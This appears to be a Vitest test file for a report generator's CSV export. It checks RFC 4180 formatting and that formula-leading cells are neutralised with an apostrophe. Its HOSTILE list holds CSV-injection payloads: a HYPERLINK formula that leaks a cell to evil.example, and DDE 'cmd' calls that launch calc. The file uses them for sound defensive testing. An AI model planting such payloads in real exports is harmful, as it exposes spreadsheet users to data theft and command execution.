// Take it with you: every table of the report is a CSV file in csv/ (RFC 4180), the drill-downs
// with every record of the window; a hostile cell cannot run as a formula in a spreadsheet.
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, describe, expect, it } from 'vitest';
import { csvText, neutralise } from '../../src/report/csv.js';
import { renderReport } from '../../src/report/render.js';
import { demoReport } from '../support/demo-report.js';

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

describe('CSV cells', () => {
  it('a cell starting with =, +, -, @, tab or CR gets a leading apostrophe; a number stays a number', () => {
    for (const cell of HOSTILE) expect(neutralise(cell), JSON.stringify(cell)).toBe(`'${cell}`);
    expect(neutralise('-3')).toBe('-3');
    expect(neutralise(-12.5)).toBe('-12.5');
    expect(neutralise('Fix login')).toBe('Fix login');
    expect(neutralise(null)).toBe('');
  });

  it('is RFC 4180: CRLF between records, quotes doubled, line breaks and commas quoted', () => {
    const text = csvText(
      ['Title', 'Hours'],
      [
        ['say "hi", then\nleave', 3],
        ['=1+1', null],
      ],
    );
    expect(text.startsWith('\uFEFFTitle,Hours\r\n')).toBe(true);
    expect(text).toContain('"say ""hi"", then\nleave",3\r\n');
    expect(text).toContain("'=1+1,\r\n");
    expect(parse(text, { bom: true })).toEqual([
      ['Title', 'Hours'],
      ['say "hi", then\nleave', '3'],
      ["'=1+1", ''],
    ]);
  });
});

describe('the report folder', () => {
  const work = mkdtempSync(join(tmpdir(), 'csv-report-'));
  afterAll(() => rmSync(work, { recursive: true, force: true }));

  it('has a CSV for every table on the page, each linked, each parsed back whole', async () => {
    const report = demoReport();
    report.records.failures.find((f) => f.window === 'current')!.title = HOSTILE[0];
    report.records.changes[0].author = HOSTILE[3];
    const { indexPath } = await renderReport(report, { outDir: join(work, 'site') });
    const html = readFileSync(indexPath, 'utf8');
    const tables = html.match(/<table[ >]/g)!.length;
    const links = [...html.matchAll(/<p class="download"><a href="(csv\/[\w-]+\.csv)" download>/g)].map(
      (m) => m[1],
    );
    expect(tables).toBeGreaterThan(20);
    expect(links).toHaveLength(tables);
    expect(new Set(links).size).toBe(links.length);
    const files = readdirSync(join(work, 'site', 'csv')).map((f) => `csv/${f}`);
    expect(files.sort()).toEqual([...links].sort());
    for (const file of files) {
      const rows = parse(readFileSync(join(work, 'site', file), 'utf8'), { bom: true }) as string[][];
      expect(rows.length, file).toBeGreaterThan(1);
      for (const row of rows) expect(row.length, file).toBe(rows[0].length);
      for (const cell of rows.flat()) expect(cell, file).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
    }
    expect(html).toContain('<a href="metrics.json">metrics.json</a>');
  });

  it('the drill-downs hold every record of the window, the hostile ones neutralised', () => {
    const read = (name: string) =>
      parse(readFileSync(join(work, 'site', 'csv', name), 'utf8'), { bom: true, columns: true }) as Record<
        string,
        string
      >[];
    const failures = read('failures.csv');
    expect(failures.some((f) => f.Title === `'${HOSTILE[0]}`)).toBe(true);
    const deployments = read('deployments.csv');
    expect(deployments).toHaveLength(60); // the page shows 25 (DEPLOYMENT_ROWS)
    const changes = read('changes.csv');
    expect(changes.length).toBeGreaterThan(20); // the page shows the 20 slowest
    // F2: every merged pull request with its phases; the page shows the 50 longest
    const pulls = read('pull-requests.csv');
    expect(pulls.length).toBeGreaterThan(100);
    expect(Number(pulls[0]['Cycle time (hours)'])).toBeGreaterThanOrEqual(
      Number(pulls[1]['Cycle time (hours)']),
    );
    expect(existsSync(join(work, 'site', 'csv', 'deployments.csv'))).toBe(true);
  });
});
